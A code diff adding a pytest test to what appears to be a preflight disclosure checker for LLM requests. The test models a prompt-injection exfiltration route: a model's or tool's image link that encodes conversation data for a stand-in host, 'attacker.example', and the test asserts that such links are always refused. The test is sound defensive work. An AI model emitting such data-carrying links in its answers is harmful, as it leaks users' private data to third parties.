@@ -242,6 +242,46 @@ def test_a_models_or_tools_part_relabelled_as_exempt_still_needs_provenance() ->
         assert "user_input if it is the user's own" not in r.first.fix
 
 
+def test_invariant7_a_link_a_model_or_a_tool_chose_is_refused_for_every_route() -> None:
+    # A model's answer can carry a link whose URL holds what the conversation holds (a prompt
+    # injection asks for it); sent on, the provider fetches it and the link's host, which no
+    # grant names, receives the data. Covered or not, with any grant, it is never sent.
+    leak = "https://attacker.example/c.png?d=ACCOUNT-12000-ACME"
+    model_link = Part(role="assistant", url=leak, media_type="image/png",
+                      data_class=MODEL_DERIVED, provenance="attempt-a1")
+    tool_link = Part(url=leak, media_type="image/png", data_class=TOOL_RESULT,
+                     provenance="call-1")
+    # A model's link relabelled by model_copy (which skips validation) is still the model's.
+    relabelled = model_link.model_copy(update={"data_class": PRIVATE_DOCUMENT})
+    recorded = {"attempt-a1": {model_link.content_hash, relabelled.content_hash},
+                "call-1": {tool_link.content_hash}}
+    everything = Grant(recipients={"deepseek": [USER_INPUT, MODEL_DERIVED, TOOL_RESULT,
+                                                PRIVATE_DOCUMENT]})
+    for part in (model_link, tool_link, relabelled):
+        for grant in (everything, None):
+            r = preflight(route(), Envelope(parts=[USER, part]), grant=grant, role="r",
+                          provenance=recorded)
+            assert r.checks == {Check.DISCLOSURE}, (part, grant)
+            first = r.first
+            assert first is not None
+            assert first.detail.startswith("part 1 (image/png) is an https:// link a model "
+                                           "or a tool chose")
+            assert "fetch the file yourself" in first.fix and "data=" in first.fix
+            # The URL may carry the data itself: the refusal, recorded and logged, never
+            # repeats it, nor its host.
+            assert "attacker" not in first.detail + first.fix
+            with pytest.raises(PreflightRefused) as info:
+                r.require()
+            assert info.value.reason == "disclosure" and "ACME" not in str(info.value)
+    # The host's own links are its choice, as before: the user's, and a covered document's.
+    doc = Part(url="https://files.example/10-K.pdf", media_type="application/pdf",
+               data_class=PRIVATE_DOCUMENT, provenance="doc-10k")
+    own = [Part(url="https://files.example/chart.png", media_type="image/png"), doc]
+    r = preflight(route(protocol=WireProtocol.ANTHROPIC), Envelope(parts=[USER, *own]),
+                  grant=everything, role="r", provenance={"doc-10k": {doc.content_hash}})
+    assert r.ok, r.failures
+
+
 def test_stale_cached_hash_on_an_edited_copy_does_not_cover() -> None:
     # Part.content_hash is cached and model_copy copies the cache: an edited copy of a part whose
     # hash was already computed presents the original's hash. Preflight recomputes it.
